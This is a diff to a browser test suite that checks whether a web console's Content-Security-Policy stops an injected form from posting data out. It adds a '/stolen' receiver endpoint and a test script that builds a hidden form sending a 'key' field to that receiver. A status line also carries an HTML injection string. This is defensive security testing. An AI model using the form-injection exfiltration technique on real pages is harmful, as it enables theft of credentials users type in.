@@ -42,6 +42,9 @@ let browser: Browser;
 let page: Page;
 let receiver: Server;
 let receiverUrl: string;
+/** Bodies posted to the receiver's STOLEN_PATH: a form injected into the console that got out. */
+const stolen: string[] = [];
+const STOLEN_PATH = "/stolen";
 
 async function api<T>(method: string, path: string, body?: unknown): Promise<T> {
   const response = await fetch(`${sandbox.url}${path}`, {
@@ -95,8 +98,13 @@ async function expectInert(where: string): Promise<string> {
 
 beforeAll(async () => {
   receiver = createServer((req, res) => {
-    req.resume();
+    let body = "";
+    req.setEncoding("utf8");
+    req.on("data", (chunk: string) => {
+      body += chunk;
+    });
     req.on("end", () => {
+      if (req.url === STOLEN_PATH) stolen.push(body);
       res.statusMessage = "Broken <img src=x id=injected-status>";
       res.writeHead(500, { "Content-Type": "text/html" });
       res.end(MARKUP);
@@ -369,5 +377,45 @@ describe("the OIDC callback's address where sign-in takes a key", () => {
       await tab.getByRole("heading", { name: "Jobs", level: 1 }).waitFor({ timeout: 5_000 });
       expect(tab.url(), path).toBe(`${sandbox.url}/console`);
     }
+  });
+});
+
+describe("a form injected into the console", () => {
+  it("posts nowhere: the page's policy allows no form submission (its own forms send fetch calls)", async () => {
+    // Markup that got past the text rendering, or a browser extension's: form-action does not
+    // fall back to default-src, so without it such a form posts what it holds to any origin.
+    const tab = await browser.context.newPage();
+    onTestFinished(() => tab.close());
+    const errorsBefore = browser.errors.length;
+    // The violation it reports is this test's own, not one a later check should see.
+    onTestFinished(() => {
+      browser.errors.splice(errorsBefore);
+    });
+    await tab.goto(`${sandbox.url}/console`);
+    await tab.getByRole("heading", { name: "Sign in", level: 1 }).waitFor();
+    const posted = tab
+      .waitForRequest((request) => request.url() === `${receiverUrl}${STOLEN_PATH}`)
+      .then(
+        () => "posted to the receiver",
+        () => "closed unposted",
+      );
+    const violated = tab
+      .evaluate(
+        `new Promise((resolve) => {
+          document.addEventListener("securitypolicyviolation", (event) => resolve("blocked by " + event.effectiveDirective));
+          const form = document.createElement("form");
+          form.method = "post";
+          form.action = ${JSON.stringify(`${receiverUrl}${STOLEN_PATH}`)};
+          const field = form.appendChild(document.createElement("input"));
+          field.name = "key";
+          field.value = "typed-into-the-page";
+          document.body.appendChild(form);
+          form.submit();
+        })`,
+      )
+      .catch(() => "navigated away");
+    expect(await Promise.race([posted, violated])).toBe("blocked by form-action");
+    expect(stolen).toEqual([]);
+    expect(tab.url()).toBe(`${sandbox.url}/console`);
   });
 });
